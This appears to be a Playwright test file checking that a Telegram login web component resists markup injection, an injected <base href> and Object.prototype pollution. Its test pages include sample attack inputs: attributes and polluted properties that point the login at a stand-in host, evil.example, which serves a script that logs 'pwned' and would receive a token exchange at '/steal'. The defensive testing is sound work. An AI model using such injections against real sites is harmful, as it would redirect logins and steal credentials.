import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';
import { startMockTelegram } from '../src/mock/index.js';
import { chromiumExecutable } from './browser.js';
import { elementPage, expect, nextEvent, test } from './fixtures.js';

// Invariant 5: an attacker who can inject markup but not run script cannot make the element talk to
// another provider or load another script. evil.example and site.example resolve to this machine.
test.use({
  launchOptions: {
    executablePath: chromiumExecutable(),
    args: ['--host-resolver-rules=MAP evil.example 127.0.0.1, MAP site.example 127.0.0.1'],
  },
});

let attacker: Server;
let evil: string;
const attackerRequests: string[] = [];

test.beforeAll(async () => {
  // The attacker's provider: an /auth that would take the victim's state and PKCE challenge, and a script.
  attacker = createServer((req, res) => {
    attackerRequests.push(req.url ?? '');
    if (req.url?.startsWith('/x.js')) res.writeHead(200, { 'Content-Type': 'text/javascript' }).end('console.log("pwned")');
    else res.writeHead(302, { Location: 'about:blank' }).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  evil = `http://evil.example:${(attacker.address() as AddressInfo).port}`;
});
test.afterAll(() => new Promise<void>((resolve) => attacker.close(() => resolve())));
test.beforeEach(() => {
  attackerRequests.length = 0;
});

/** Every console warning the element prints, and whether anything ran from the attacker's script. */
function watchConsole(page: Page): { warnings: string[]; pwned: () => boolean } {
  const warnings: string[] = [];
  let pwned = false;
  page.on('console', (message) => {
    if (message.type() === 'warning') warnings.push(message.text());
    if (message.text() === 'pwned') pwned = true;
  });
  return { warnings, pwned: () => pwned };
}

test('an injected issuer attribute cannot send a code-flow login to another provider', async ({ page, site, mock }) => {
  const { warnings } = watchConsole(page);
  await page.goto(
    elementPage(site, `<telegram-login-button id="tg" flow="popup" client-id="${mock.defaultClient.id}" issuer="${evil}" exchange-url="/auth/telegram/exchange"></telegram-login-button>`),
  );
  const failure = nextEvent(page, 'telegram-login-error');
  let popups = 0;
  page.on('popup', () => (popups += 1));
  await page.click('#tg');
  const { detail } = await failure;
  expect(detail.error!.code).toBe('invalid_config');
  expect(detail.error!.message).toContain('the "issuer" attribute may only name Telegram');
  expect(detail.error!.message).toContain('set the "issuer" property from your script');
  expect(warnings.some((text) => text.includes('"issuer" attribute') && text.includes('[invalid_config]'))).toBe(true);
  expect(popups).toBe(0);
  expect(attackerRequests).toEqual([]);
  await expect(page.locator('#tg').locator('button')).toHaveAttribute('aria-disabled', 'true');
});

for (const csp of [undefined, "script-src 'nonce-t3st' 'strict-dynamic'; object-src 'none'; base-uri 'none'"]) {
  test(`an injected library-src attribute loads no script, neither at load nor on click (${csp ? 'strict-dynamic CSP' : 'no CSP'})`, async ({ page, site, mock }) => {
    const { warnings, pwned } = watchConsole(page);
    const nonced = csp ? ' nonce="t3st"' : '';
    const url = site.page(
      '/library-src-gadget',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Gadget</title>
<script src="/harness.js"${nonced}></script>
<script type="module" src="/telegram-login-kit.js"${nonced}></script></head>
<body><telegram-login-button id="tg" client-id="${mock.defaultClient.id}" library-src="${evil}/x.js"></telegram-login-button></body></html>`,
      csp ? { 'Content-Security-Policy': csp } : {},
    );
    await page.goto(url);
    await expect.poll(() => warnings.some((text) => text.includes('"library-src" attribute'))).toBe(true);
    const failure = nextEvent(page, 'telegram-login-error');
    await page.click('#tg');
    expect((await failure).detail.error!.code).toBe('invalid_config');
    expect(attackerRequests).toEqual([]);
    expect(pwned()).toBe(false);
  });
}

test('on a page that is not on loopback, markup cannot point at loopback either', async ({ page, site, mock }) => {
  const requests: string[] = [];
  page.on('request', (request) => requests.push(request.url()));
  const path = new URL(elementPage(site, `<telegram-login-button id="tg" client-id="${mock.defaultClient.id}" library-src="${mock.libraryUrl}"></telegram-login-button>`)).pathname;
  await page.goto(`http://site.example:${new URL(site.origin).port}${path}`);
  const failure = nextEvent(page, 'telegram-login-error');
  await page.click('#tg');
  expect((await failure).detail.error!.message).toContain('or loopback on a loopback page');
  expect(requests.filter((url) => url.startsWith(mock.issuer))).toEqual([]);
});

test('a script may still choose any provider: trustProviderOrigins() before the button connects', async ({ page, site }) => {
  // A provider that is neither Telegram nor loopback-from-loopback: a mock whose bot allows site.example.
  const staging = await startMockTelegram({ autoConsent: true, clients: [{ id: '7700000042', secret: 'staging-secret-0123456789', allowedUrls: ['http://site.example:*/*'] }] });
  try {
    const path = new URL(
      site.page(
        '/trusted',
        `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Trusted</title>
<script src="/harness.js"></script>
<script type="module">
  import '/telegram-login-kit.js';
  customElements.get('telegram-login-button').trustProviderOrigins(['${staging.issuer}']);
  document.body.insertAdjacentHTML('beforeend', '<telegram-login-button id="tg" client-id="7700000042" library-src="${staging.libraryUrl}"></telegram-login-button>');
</script></head><body></body></html>`,
      ),
    ).pathname;
    await page.goto(`http://site.example:${new URL(site.origin).port}${path}`);
    const success = nextEvent(page, 'telegram-login-success');
    await page.click('#tg');
    expect((await success).detail).toMatchObject({ flow: 'library', user: { aud: '7700000042', iss: staging.issuer } });
  } finally {
    await staging.stop();
  }
});

test('a polluted Object.prototype does not choose login()\'s flow, provider or script', async ({ page, site, mock }) => {
  const { pwned } = watchConsole(page);
  await mock.control({ autoConsent: true });
  await page.goto(
    site.page(
      '/polluted',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Polluted</title></head><body>
<button id="go">Log in</button>
<script type="module">
  import { login } from '/telegram-login-kit.js';
  // What a prototype-pollution bug elsewhere on the page (a query-string parser, a deep merge) leaves behind.
  Object.assign(Object.prototype, { flow: 'popup', issuer: '${evil}', exchangeUrl: '/steal', librarySrc: '${evil}/x.js' });
  document.querySelector('#go').addEventListener('click', () => {
    login({ clientId: '${mock.defaultClient.id}', librarySrc: '${mock.libraryUrl}' }).then(
      (result) => console.log('result ' + result.flow),
      (error) => console.log('error ' + error.code),
    );
  });
</script></body></html>`,
    ),
  );
  const outcome = page.waitForEvent('console', (message) => /^(result|error) /.test(message.text()));
  await page.click('#go');
  expect((await outcome).text()).toBe('result library');
  expect(attackerRequests).toEqual([]);
  expect(pwned()).toBe(false);
});

test('an injected <base href> cannot move a relative library-src the site set from script', async ({ page, site, mock }) => {
  const { pwned } = watchConsole(page);
  // The site mirrors Telegram's library on its own origin and sets the property to a relative path.
  const mirror = new URL(mock.libraryUrl);
  await page.route(`${site.origin}/vendor/telegram-login.js`, (route) => route.fulfill({ status: 302, headers: { Location: mirror.href } }));
  await page.goto(
    site.page(
      '/based',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Base</title>
<base href="${evil}/">
<script src="${site.origin}/harness.js"></script></head><body>
<telegram-login-button id="tg" client-id="${mock.defaultClient.id}"></telegram-login-button>
<script type="module">
  import '${site.origin}/telegram-login-kit.js';
  document.querySelector('#tg').librarySrc = '/vendor/telegram-login.js';
</script></body></html>`,
    ),
  );
  await expect.poll(() => page.evaluate(() => [...document.scripts].some((script) => script.src.includes('telegram-login.js')))).toBe(true);
  expect(attackerRequests.filter((url) => url.includes('telegram-login'))).toEqual([]);
  expect(pwned()).toBe(false);
});

test('a property set before the element is defined is kept, and still wins over the attribute', async ({ page, site, mock }) => {
  await mock.control({ autoConsent: true });
  await page.goto(
    site.page(
      '/early',
      `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Early</title><script src="/harness.js"></script></head><body>
<telegram-login-button id="tg" client-id="${mock.defaultClient.id}" library-src="${evil}/x.js"></telegram-login-button>
<script type="module">
  // Frameworks often set properties before the definition has loaded.
  document.querySelector('#tg').librarySrc = '${mock.libraryUrl}';
  await import('/telegram-login-kit.js');
  console.log('ready ' + Object.hasOwn(document.querySelector('#tg'), 'librarySrc'));
</script></body></html>`,
    ),
  );
  const ready = await page.waitForEvent('console', (message) => message.text().startsWith('ready '));
  expect(ready.text()).toBe('ready false');
  const success = nextEvent(page, 'telegram-login-success');
  await page.click('#tg');
  expect((await success).detail.flow).toBe('library');
  expect(attackerRequests).toEqual([]);
});

test('on Telegram\'s own origins the library-src attribute may name only the login library', async ({ page, site, mock }) => {
  const { warnings } = watchConsole(page);
  await page.goto(elementPage(site, `<telegram-login-button id="tg" client-id="${mock.defaultClient.id}" library-src="https://telegram.org/js/telegram-widget.js?22"></telegram-login-button>`));
  const failure = nextEvent(page, 'telegram-login-error');
  await page.click('#tg');
  expect((await failure).detail.error!.message).toContain('may name only /js/telegram-login.js');
  expect(warnings.some((text) => text.includes('/js/telegram-login.js'))).toBe(true);
});
